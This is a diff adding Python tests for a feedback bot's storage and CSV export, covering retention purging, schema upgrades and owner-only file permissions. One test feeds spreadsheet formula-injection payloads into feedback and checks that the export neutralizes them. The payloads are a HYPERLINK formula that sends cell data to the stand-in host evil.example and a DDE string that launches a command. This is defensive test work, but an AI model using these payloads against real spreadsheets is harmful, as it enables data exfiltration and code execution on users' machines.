@@ -9,6 +9,7 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
+from sqlalchemy import text
 
 from bot.cli.main import cli
 from bot.store.database import Database
@@ -179,3 +180,68 @@ def test_feedback_export_jsonl_and_csv(lore_env: FeedbackStore, tmp_path: Path) 
 def test_export_rejects_unknown_formats(lore_env: FeedbackStore) -> None:
     result = CliRunner().invoke(cli, ["feedback", "export", "--format", "xml"])
     assert result.exit_code == 2 and "xml" in result.output
+
+
+def test_a_formula_typed_as_feedback_opens_as_text_in_a_spreadsheet(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("LORE_HOME", str(tmp_path / "home"))
+    monkeypatch.setenv("LORE_CONFIG", str(tmp_path / "absent.toml"))
+    monkeypatch.delenv("LORE_DATABASE_URL", raising=False)
+    store = FeedbackStore(Database(f"sqlite:///{(tmp_path / 'home' / 'lore.db').resolve()}"))
+    link = '=HYPERLINK("https://evil.example/?d="&A1,"Click for the real answer")'
+    formulas = [link, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
+    for number, formula in enumerate(formulas):
+        store.record(Feedback(f"a{number}", "slack", formula, "not_helpful", text=formula, correction=formula))
+    out = tmp_path / "feedback.csv"
+
+    result = CliRunner().invoke(cli, ["feedback", "export", "--format", "csv", "--out", str(out)])
+
+    assert result.exit_code == 0, result.output
+    with out.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    for name in ("user_id", "text", "correction"):  # newest first
+        assert [row.get(name) for row in rows] == ["'" + formula for formula in reversed(formulas)], name
+    # Every cell quoted, so no separator inside one starts a new cell a spreadsheet evaluates.
+    assert '"\'=HYPERLINK(""https://evil.example/?d=""&A1,' in out.read_text(encoding="utf-8")
+    assert out.stat().st_mode & 0o777 == 0o600  # the export names people and quotes answers
+
+
+def test_feedback_past_its_retention_is_purged(any_database: Database) -> None:
+    store = FeedbackStore(any_database)
+    now = datetime.now(UTC)
+    old = store.record(Feedback("a-old", "slack", "U1", "not_helpful", correction="x", created_at=now - timedelta(days=40)))
+    kept = store.record(Feedback("a-new", "slack", "U1", "helpful", created_at=now - timedelta(days=20)))
+
+    assert store.purge_older_than(30) == 1
+
+    assert [entry.id for entry in store.list()] == [kept] and store.get(old) is None
+
+
+def test_corrections_typed_before_reviews_existed_wait_for_review_after_the_upgrade(any_database: Database) -> None:
+    with any_database.engine.begin() as connection:  # a feedback table from before reviews
+        for column in ("asker_id", "review", "reviewed_by", "reviewed_at"):
+            connection.exec_driver_sql(f"ALTER TABLE feedback DROP COLUMN {column}")
+        connection.execute(
+            text(
+                "INSERT INTO feedback (answer_id, platform, user_id, rating, text, correction, created_at)"
+                " VALUES ('a1', 'slack', 'U9', 'not_helpful', '', 'Planted answer', :now),"
+                " ('a2', 'slack', 'U9', 'helpful', '', '', :now)"
+            ),
+            {"now": datetime.now(UTC)},
+        )
+    reopened = Database(any_database.url)
+
+    entries = FeedbackStore(reopened).list()
+
+    assert sorted((entry.correction, entry.review) for entry in entries) == [("", None), ("Planted answer", "pending")]
+    reopened.close()
+
+
+def test_the_answer_log_and_the_folder_lore_creates_for_it_are_owner_only(tmp_path: Path) -> None:
+    database = Database(f"sqlite:///{tmp_path / 'home' / 'lore.db'}")
+    FeedbackStore(database).record(Feedback(None, "slack", "U1", None, text="a question about salaries"))
+    database.close()
+
+    assert (tmp_path / "home").stat().st_mode & 0o777 == 0o700
+    for name in ("lore.db", "lore.db-wal", "lore.db-shm"):
+        path = tmp_path / "home" / name
+        assert not path.exists() or path.stat().st_mode & 0o777 == 0o600, name
